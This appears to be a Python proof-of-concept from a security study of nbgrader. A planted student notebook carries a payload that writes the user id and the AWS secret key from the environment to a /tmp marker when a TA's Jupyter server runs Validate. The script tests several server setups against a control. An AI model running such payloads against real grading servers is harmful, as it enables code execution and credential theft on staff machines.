"""a09: a08 through the Validate button. The TA's Jupyter server is started in the TA's home, with nbgrader's documented
per-user setting `c.CourseDirectory.root = "<course>"` in ~/.jupyter/nbgrader_config.py (Formgrader then works on the
course, and nbgrader loads the course's nbgrader_config.py from that root). The button's handler loads only the server's
cwd and Jupyter paths. POST /assignments/validate?path=<course>/submitted/mallory/... (what the button sends) as the TA.
Control: the same server started by `make lab`'s command in the course folder."""
import sys, socket, secrets, urllib.request, urllib.parse; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from lib import *
MARK = "/tmp/a40-a09-PWNED"
PAYLOAD = f'''
import os
open({MARK!r}, "w").write(f"uid={{os.getuid()}} AWS={{os.environ.get('AWS_SECRET_ACCESS_KEY')}}\\n")
'''
base = "/tmp/attack40-root-a09"
shutil.rmtree(base, ignore_errors=True)
home = f"{base}/home"; os.makedirs(f"{home}/.jupyter")
root = make_course("a09/home/course") if False else None
root = f"{home}/course"; os.makedirs(root)
shutil.copy(f"{CLONE}/nbgrader_config.py", root); shutil.copytree(f"{CLONE}/source", f"{root}/source"); shutil.copytree(f"{CLONE}/release", f"{root}/release")
for st in ("aaron", "zoe"): hand_in(root, st, honest())
hand_in(root, "mallory", hostile(PAYLOAD))
open(f"{home}/.jupyter/nbgrader_config.py", "w").write(f'c = get_config()\nc.CourseDirectory.root = "{root}"\n')

def free_port():
    s = socket.socket(); s.bind(("127.0.0.1", 0)); p = s.getsockname()[1]; s.close(); return p

def server_try(cwd, notebook_dir, rel, formgrader_first=True):
    if os.path.exists(MARK): os.unlink(MARK)
    port, token = free_port(), secrets.token_hex(16)
    env = dict(os.environ, **ENV_CANARY, HOME=home, JUPYTER_CONFIG_DIR=f"{home}/.jupyter", DISTCOURSE_JUDGE="kernel", PYTHONSAFEPATH="1")
    log = open(f"{base}/server-{port}.log", "w")
    pr = subprocess.Popen([f"{CLONE}/.venv/bin/jupyter", "lab", "--no-browser", "--allow-root", f"--port={port}", "--ip=127.0.0.1",
                           f"--IdentityProvider.token={token}", f"--notebook-dir={notebook_dir}"], cwd=cwd, env=env, stdout=log, stderr=subprocess.STDOUT)
    try:
        for _ in range(120):
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={token}", timeout=2); break
            except Exception: time.sleep(0.5)
        # Formgrader first (the TA opens it): loads the course's config in the server via CourseDirectory.root
        if formgrader_first:
          try:
            r = urllib.request.urlopen(f"http://127.0.0.1:{port}/formgrader/api/assignments?token={token}", timeout=60)
            print("   formgrader api:", r.status)
          except Exception as e: print("   formgrader api:", e)
        data = urllib.parse.urlencode({"path": rel}).encode()
        req = urllib.request.Request(f"http://127.0.0.1:{port}/assignments/validate?token={token}", data=data, method="POST")
        try:
            r = urllib.request.urlopen(req, timeout=240); body = r.read().decode()[:600]
        except Exception as e: body = f"<{e}>"
        print("   validate answer:", body.replace("\n", " ")[:600])
        print("   MARKER:", open(MARK).read().strip() if os.path.exists(MARK) else "none (not run)")
    finally:
        pr.terminate(); pr.wait(timeout=30); log.close()

rel_home = f"course/submitted/mallory/{A}/{A}.ipynb"
print("--- server started in the TA's home (~/.jupyter/nbgrader_config.py sets CourseDirectory.root):")
server_try(home, home, rel_home)
print("--- same home server, the Validate button pressed before Formgrader was opened:")
server_try(home, home, rel_home, formgrader_first=False)
print("--- server started in the TA's home with no nbgrader setting at all (course under it), button only:")
os.rename(f"{home}/.jupyter/nbgrader_config.py", f"{home}/.jupyter/nbgrader_config.py.off")
server_try(home, home, rel_home, formgrader_first=False)
os.rename(f"{home}/.jupyter/nbgrader_config.py.off", f"{home}/.jupyter/nbgrader_config.py")
print("--- control: server started as `make lab` does, in the course folder:")
server_try(root, root, f"submitted/mallory/{A}/{A}.ipynb")
